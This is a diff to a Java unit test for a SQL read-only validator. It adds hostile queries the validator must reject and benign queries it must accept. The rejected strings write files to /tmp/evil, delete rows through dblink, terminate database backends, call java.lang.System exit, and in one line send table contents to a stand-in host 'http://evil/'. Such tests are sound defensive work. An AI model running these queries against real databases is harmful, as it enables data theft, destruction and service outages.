@@ -235,7 +235,19 @@ class SqlDatasetTest {
                 "SELECT query_to_xml('SELECT lo_ex' || 'port(42, ''/tmp/evil'')', true, false, '')",
                 "SELECT PG_TERMINATE_BACKEND(pid) FROM pg_stat_activity",
                 "SELECT * FROM dblink('', 'DELETE FROM reviews') AS t(text text)",
-                "SELECT body FROM reviews INTO/**/OUTFILE '/tmp/evil'"
+                "SELECT body FROM reviews INTO/**/OUTFILE '/tmp/evil'",
+                "SELECT text, label FROM reviews, (SELECT count(*) AS n FROM pg_logical_slot_get_changes('s', NULL, NULL)) c",
+                "SELECT (pg_replication_slot_advance('s', pg_current_wal_lsn())).end_lsn AS text, label FROM reviews",
+                "SELECT pg_stat_statements_reset() AS text, label FROM reviews",
+                "SELECT text, label, FILE_WRITE('evil', '/tmp/evil') FROM reviews",
+                "SELECT text, label, \"CSVWRITE\"('/tmp/evil', 'SELECT 1') FROM reviews",
+                "SELECT * FROM LINK_SCHEMA('a', 'org.Driver', 'jdbc:x', '', '', 'b')",
+                "SELECT `java_method`('java.lang.System', 'exit', 1) AS text, label FROM reviews",
+                "SELECT reflect /* a */ --b\n('java.lang.System', 'exit', 1) AS text, label FROM reviews",
+                "SELECT \"java.lang.System.setProperty\"('a', 'b') AS text, label FROM reviews",
+                "SELECT SYSTEM$CANCEL_ALL_QUERIES(1) AS text, label FROM reviews",
+                "SELECT * FROM TABLE(pg.system.query(query => 'DELETE FROM reviews'))",
+                "SELECT utl_http.request('http://evil/' || body) AS text, label FROM reviews"
             })
     void anotherDatabaseGetsNoQueryThatDoesMore(String query) {
         assertThatExceptionOfType(IOException.class)
@@ -252,7 +264,10 @@ class SqlDatasetTest {
                 "SELECT ts_headline(body, to_tsquery('a')) AS text, label FROM reviews",
                 "SELECT xmlserialize(CONTENT table_to_xml AS text) AS text, label FROM exports",
                 "SELECT convert_from(lo_get(body), 'UTF8') AS text, label FROM reviews",
-                "SELECT dbms_lob.substr(body, 4000) AS text, label FROM reviews"
+                "SELECT dbms_lob.substr(body, 4000) AS text, label FROM reviews",
+                "SELECT reflect AS text, system AS label FROM reflections WHERE body LIKE '%reflects (a lot)%'",
+                "SELECT query AS text, operating_system AS label FROM system.query_log",
+                "SELECT slot_name AS text, active AS label FROM pg_replication_slots"
             })
     void anotherDatabaseGetsAQueryThatReads(String query) throws IOException {
         assertThat(ReadingQuery.of(query)).isEqualTo(query);
